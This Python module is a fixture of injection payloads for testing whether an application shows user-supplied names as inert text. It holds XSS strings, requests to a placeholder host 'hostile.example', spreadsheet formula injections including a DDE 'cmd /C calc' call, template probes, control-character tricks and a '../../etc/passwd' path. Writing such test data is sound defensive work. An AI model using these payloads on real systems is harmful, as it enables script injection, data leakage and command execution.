"""More than sixty names that would do something where they are not taken as text: run a script, ask another server, link, reckon."""

from typing import Final

HOST: Final = "hostile.example"  # a request for it would be heard; `pwned` would be set by a script that ran

SCRIPTS: Final = (
    "<script>window.pwned=1</script>",
    f"<script src=//{HOST}/a.js></script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    f"<img src=http://{HOST}/p.png>",
    "<svg onload=window.pwned=1><circle r=9></svg>",
    f"<svg><image href=//{HOST}/p.svg /></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<iframe src=//{HOST}/></iframe>",
    "<details open ontoggle=window.pwned=1>",
    f"<table background=//{HOST}/b.png></table>",
    f"<style>@import '//{HOST}/c.css'</style>",
    f"<link rel=stylesheet href=//{HOST}/c.css>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<form action=//{HOST}/><button>Press</button></form>",
    '" onmouseover="window.pwned=1',
    "' onfocus='window.pwned=1' autofocus='",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "]]><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script>",
)  # fmt: skip
LINKS: Final = (
    f"[squat](http://{HOST}/)",
    "[squat](javascript:window.pwned=1)",
    "[squat](data:text/html,<script>window.pwned=1</script>)",
    f"![squat](http://{HOST}/m.png)",
    f"http://{HOST}/auto",
    f"www.{HOST}",
    f"<http://{HOST}/angle>",
    f"me@{HOST}",
    f"[ref][1]\n\n[1]: http://{HOST}/ref",
    f"<a href=http://{HOST}/>squat</a>",
    '<a href="javascript:window.pwned=1" target="_blank">squat</a>',
    f"%{{x}} <a href='http://{HOST}/'>%{{y}}</a><extra></extra>",
    "<a href='javascript:window.pwned=1'>%{customdata[0]}</a>",
)  # fmt: skip
MARKS: Final = (
    "$\\LaTeX \\frac{1}{2}$",
    "$$\\href{javascript:window.pwned=1}{x}$$",
    ":material/home: :smile:",
    ":red[warm] :blue-background[cold]",
    ":small[x] :violet-badge[y]",
    "# heading **bold** `code` ~~gone~~",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "{{ 7 * 7 }} {% include 'x' %} ${7*7} #{7*7}",
    "%(name)s %s {0} {name!r}",
)  # fmt: skip
FORMULAS: Final = (
    "=1+1",
    f'=HYPERLINK("http://{HOST}/","squat")',
    f'=IMPORTXML("http://{HOST}/","//a")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    '";=1+1;"',
    '","=1+1',
)  # fmt: skip
ODD: Final = (
    "\u202egnp.exe\u202c squat",
    "sq\u200buat\u200d\ufeff",
    "squat\x00\x07\x1b[31m",
    "squat\r\nDTSTART:19700101T000000\r\nEND:VEVENT",
    "x" * 190 + "<b>",
    "../../etc/passwd",
)  # fmt: skip
NAMES: Final = SCRIPTS + LINKS + MARKS + FORMULAS + ODD
